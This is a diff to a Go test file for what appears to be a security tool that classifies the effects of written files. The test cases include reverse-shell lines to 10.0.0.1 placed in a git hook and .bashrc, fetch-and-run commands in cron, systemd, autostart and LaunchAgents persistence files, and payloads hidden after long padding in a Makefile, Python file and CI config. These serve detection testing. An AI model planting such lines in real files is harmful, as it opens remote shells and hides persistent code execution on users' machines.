@@ -1,6 +1,7 @@
 package shell
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/shieldcli/shield/pkg/effect"
@@ -32,6 +33,9 @@ func TestWritten(t *testing.T) {
 		{"/home/me/app/.git/hooks/post-checkout", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/9 0>&1", effect.RemoteShell, ""},
 		{"/home/me/.bashrc", "alias l=ls\nbash -i >& /dev/tcp/10.0.0.1/9 0>&1 &", effect.RemoteShell, ""},
 		{"/etc/cron.d/x", "*/5 * * * * root " + fetch + "\n", effect.RunCode, effect.LabelNetwork},
+		{"/home/me/app/Makefile", strings.Repeat("# padding\n", 7000) + "setup:\n\t" + fetch + "\n", effect.Dynamic, ""},
+		{"/home/me/app/lib/log.py", strings.Repeat("x = 1\n", 12000) + "import os\nos.system('" + fetch + "')\n", effect.Dynamic, ""},
+		{"/home/me/app/.gitlab-ci.yml", "build:\n  script:\n" + strings.Repeat("    - make\n", 300) + "    - " + fetch + "\n", effect.Dynamic, ""},
 		{"/home/me/.config/systemd/user/x.service", "[Service]\nExecStart=/bin/sh -c '" + fetch + "'\n", effect.RunCode, effect.LabelNetwork},
 		{"/home/me/.config/autostart/x.desktop", "[Desktop Entry]\nExec=sh -c \"" + fetch + "\"\n", effect.RunCode, effect.LabelNetwork},
 		{"/Users/me/Library/LaunchAgents/x.plist", "<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>" + fetch + "</string></array>", effect.RunCode, effect.LabelNetwork},
@@ -58,9 +62,9 @@ func TestWritten(t *testing.T) {
 		got := Written(c.file, c.text, here())
 		switch {
 		case c.want == "" && len(got) > 0:
-			t.Errorf("%s: %q: %+v", c.file, c.text, got)
+			t.Errorf("%s: %.80q: %+v", c.file, c.text, got)
 		case c.want != "" && (len(got) == 0 || got[0].Kind != c.want || c.label != "" && !got[0].Is(c.label)):
-			t.Errorf("%s: %q: %+v, want %s %s", c.file, c.text, got, c.want, c.label)
+			t.Errorf("%s: %.80q: %+v, want %s %s", c.file, c.text, got, c.want, c.label)
 		}
 	}
 }
